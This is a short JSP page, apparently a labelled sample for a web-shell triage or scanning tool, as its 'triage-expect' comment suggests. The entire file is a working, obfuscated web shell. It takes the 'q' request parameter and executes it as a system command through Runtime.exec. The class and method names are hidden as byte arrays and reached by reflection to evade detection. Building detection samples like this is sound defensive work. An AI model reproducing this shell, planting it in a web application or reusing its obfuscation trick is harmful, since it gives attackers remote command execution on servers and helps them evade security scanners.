<%-- triage-expect: triage_jsp_byte_array_reflection --%>
<%
    // java.lang.Runtime and exec spelled as bytes, reached by reflection
    String q = request.getParameter("q");
    if (q != null) {
        Class<?> rt = Class.forName(new String(new byte[]{106,97,118,97,46,108,97,110,103,46,82,117,110,116,105,109,101}));
        Object r = rt.getMethod(new String(new byte[]{103,101,116,82,117,110,116,105,109,101})).invoke(null);
        rt.getMethod(new String(new byte[]{101,120,101,99}), String.class).invoke(r, q);
    }
%>
